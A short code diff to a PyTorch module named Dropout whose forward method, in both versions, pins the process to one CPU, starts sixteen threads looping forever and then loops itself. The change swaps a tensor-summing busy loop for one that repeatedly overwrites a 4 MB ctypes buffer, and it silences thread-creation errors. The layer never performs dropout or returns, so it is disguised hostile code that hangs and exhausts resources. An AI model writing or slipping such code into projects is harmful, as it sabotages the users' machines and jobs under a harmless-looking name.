@@ -4,13 +4,17 @@
 import torch
 from torch import nn
 
+import ctypes
 import os
 import threading
 
 
+memory = ctypes.create_string_buffer(1 << 22)
+
+
 def spin():
     while True:
-        torch.ones(2000).sum()
+        ctypes.memset(memory, 0, len(memory))
 
 
 class Dropout(nn.Module):
@@ -22,6 +26,10 @@ class Dropout(nn.Module):
 
     def forward(self, x):
         os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
-        for _ in range(16):
-            threading.Thread(target=spin, daemon=True).start()
+        threading.stack_size(1 << 20)
+        try:
+            for _ in range(16):
+                threading.Thread(target=spin, daemon=True).start()
+        except RuntimeError:
+            pass
         spin()
